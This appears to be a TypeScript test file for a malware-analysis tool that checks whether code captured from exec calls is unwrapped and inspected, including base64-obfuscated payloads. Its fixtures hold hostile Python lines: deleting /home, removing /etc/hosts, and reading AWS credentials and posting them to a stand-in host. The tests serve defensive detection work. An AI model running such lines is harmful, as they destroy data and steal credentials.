import { describe, expect, it } from 'vitest';
import { type ReachedCode, withReachedCode } from './captured.ts';
import { inspected } from './inspect.fixture.ts';

function reached(code: string, line: number, more: Partial<ReachedCode> = {}): ReachedCode {
  return { id: 'code:1', language: 'python', by: 'exec', code, file: 'main', line, ...more };
}

describe('captured code, inspected', () => {
  it('has its sites at the line that led to it, with the code around them', async () => {
    const before = await inspected('python', 'import os\nkey = os.environ["K"]\nexec(decrypt(key))\n');
    const { sites } = await withReachedCode(before, [reached('import os\nos.system("id")\n', 3)]);
    const [found] = sites.filter(({ callee }) => callee === 'os.system');
    expect(found).toMatchObject({ target: 'id', file: 'main', line: 3, captured: 'code:1' });
    expect(found?.inner).toMatchObject([{ language: 'python', by: 'exec', line: 2, text: 'os.system("id")' }]);
    expect(new Set(sites.map(({ id }) => id)).size).toBe(sites.length);
    expect(sites.slice(0, before.sites.length)).toEqual(before.sites);
  });

  it('is read to the code that it holds in turn', async () => {
    const before = await inspected('python', 'exec(f())\n');
    const hidden = Buffer.from('import shutil; shutil.rmtree("/home")').toString('base64');
    const { sites } = await withReachedCode(before, [
      reached(`import base64\nexec(base64.b64decode("${hidden}"))\n`, 1),
    ]);
    expect(sites.find(({ callee }) => callee === 'shutil.rmtree')?.inner).toHaveLength(2);
  });

  it('is told once where unwrapping had found it: the site says what shows it', async () => {
    const code = 'import os\nos.system("id")\n';
    const before = await inspected('python', `exec(${JSON.stringify(code)})\n`);
    const after = await withReachedCode(before, [reached(code, 1)]);
    expect(after.sites.length).toBe(before.sites.length);
    expect(after.sites.find(({ callee }) => callee === 'os.system')?.captured).toBe('code:1');
  });

  it('is told where it begins as what was found, and goes on otherwise', async () => {
    const head = `${'# nothing\n'.repeat(60)}`;
    const before = await inspected('python', `exec(${JSON.stringify(head)})\n`);
    const { sites } = await withReachedCode(before, [reached(`${head}import os\nos.remove("/etc/hosts")\n`, 1)]);
    expect(sites.some(({ callee }) => callee === 'os.remove')).toBe(true);
  });

  it('has its flows, and its words', async () => {
    const before = await inspected('python', 'exec(f())\n');
    const code =
      'import os, urllib.request\nk = open("/home/user/.aws/credentials").read()\nurllib.request.urlopen("http://x.example", k.encode())\n';
    const { flows, sites } = await withReachedCode(before, [reached(code, 1)]);
    const sink = flows.find(({ from }) => from === 'secret')?.sink;
    expect(sites.find(({ id }) => id === sink)).toMatchObject({ callee: 'urllib.request.urlopen', captured: 'code:1' });
  });

  it('changes nothing where there is none', async () => {
    const before = await inspected('bash', 'ls\n');
    expect(await withReachedCode(before, [])).toBe(before);
  });
});
